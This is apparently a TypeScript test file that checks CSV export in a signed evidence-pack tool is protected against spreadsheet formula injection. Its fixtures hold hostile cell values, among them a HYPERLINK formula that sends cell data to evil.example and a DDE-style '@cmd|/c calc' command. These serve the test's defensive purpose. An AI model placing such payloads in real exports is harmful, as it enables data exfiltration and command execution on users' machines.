import { storedException } from '@evident/db';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { csvLine } from './pack/csv.ts';
import type { PackInput } from './pack/input.ts';
import { writePack } from './pack/write-pack.ts';
import { generateSigningKey, toJwks } from './sign.ts';
import { memoryPackInput } from './testing/world.ts';
import { verifyPackBytes } from './verify/index.ts';

const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';

describe('CSV cells', () => {
  it('are quoted when they hold a comma, a quote or a line break', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines', 3, true, null, undefined])).toBe(
      'a,"b,c","say ""hi""","two\nlines",3,true,,\r\n',
    );
  });

  it('cannot start a formula: a leading = + - @ tab or carriage return is prefixed with a quote', () => {
    expect(csvLine(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])).toBe(`'=1+1,'+1,'-1,'@SUM(A1),'\tx,"'\rx"\r\n`);
    expect(csvLine([HOSTILE])).toBe(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"\r\n`);
    expect(csvLine(['a=1', 'user-1', 'x@y', -1, 0])).toBe('a=1,user-1,x@y,-1,0\r\n');
  });
});

/** A tenant whose provider hands back names chosen by an attacker. */
function hostileInput(): PackInput {
  const base = memoryPackInput(5);
  return {
    ...base,
    async *facts() {
      for await (const f of base.facts())
        yield f.type === 'identity'
          ? { ...f, name: HOSTILE, enforcementDetail: '@cmd|/c calc' }
          : f.type === 'logSource'
            ? { ...f, scope: '+SUM(1,2)' }
            : f;
    },
    exceptions: [
      storedException.parse({
        id: 'exc_01m8t3g6y8ced297srcq4578ky',
        organizationId: base.organization.id,
        tenantId: base.tenant.id,
        controlId: 'MFA-01',
        subject: '-2+3',
        reason: '\t=1',
        approver: 'ciso@contoso.example',
        expiresAt: '2099-01-01T00:00:00.000Z',
        createdAt: '2026-11-01T00:00:00.000Z',
      }),
    ],
  };
}

describe('a pack from hostile provider data', () => {
  it('writes no CSV cell a spreadsheet would run, and still verifies', async () => {
    const key = await generateSigningKey();
    const chunks: Uint8Array[] = [];
    await writePack(hostileInput(), key, toJwks([key]), { write: (c) => void chunks.push(c) });
    const bytes = Buffer.concat(chunks);
    const files = unzipSync(bytes);
    const csvs = ['controls.csv', 'identities.csv', 'log-sources.csv', 'exceptions.csv'];
    for (const name of csvs) {
      const cells = strFromU8(files[name]!)
        .trimEnd()
        .split('\r\n')
        .flatMap((line) => line.split(','))
        .map((cell) => cell.replace(/^"/, ''));
      expect(
        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
        name,
      ).toEqual([]);
    }
    expect(strFromU8(files['identities.csv']!)).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1`);
    expect(strFromU8(files['identities.csv']!)).toContain(`'@cmd|/c calc`);
    expect(strFromU8(files['log-sources.csv']!)).toContain(`"'+SUM(1,2)"`);
    expect(strFromU8(files['exceptions.csv']!)).toContain(`,'-2+3,`);
    expect(strFromU8(files['exceptions.csv']!)).toContain(`,'\t=1,`);
    expect(await verifyPackBytes(bytes)).toMatchObject({ ok: true, problems: [] });
  });
});
